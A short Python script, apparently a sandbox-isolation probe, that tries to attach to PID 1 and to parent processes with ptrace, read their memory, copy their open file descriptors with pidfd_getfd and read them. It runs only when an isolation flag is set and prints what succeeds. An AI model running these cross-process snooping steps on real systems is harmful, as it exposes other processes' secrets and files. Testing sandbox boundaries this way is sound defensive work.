import ctypes
import os

import spoils

libc = ctypes.CDLL(None, use_errno=True)


class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]


def look_into(pid):
    attached = libc.ptrace(0x4206, pid, 0, 0)  # PTRACE_SEIZE, which stops nothing
    buffer = ctypes.create_string_buffer(4096)
    ours, theirs = Vector(ctypes.addressof(buffer), 4096), Vector(id(pid), 4096)
    size = libc.process_vm_readv(pid, ctypes.byref(ours), 1, ctypes.byref(theirs), 1, 0)
    handle = libc.syscall(434, pid, 0)  # pidfd_open
    taken = [libc.syscall(438, handle, fd, 0) for fd in range(8)]  # pidfd_getfd
    for fd in taken:
        if fd >= 0:
            spoils.read(f"/proc/self/fd/{fd}")
    compared = libc.syscall(312, pid, os.getpid(), 0, 1, 1)  # kcmp
    print(pid, attached, size, taken, compared, os.strerror(ctypes.get_errno()))
    spoils.look(buffer.raw)


if __name__ == "__main__" and spoils.ISOLATED:
    for process in (1, *spoils.parents()):
        look_into(process)
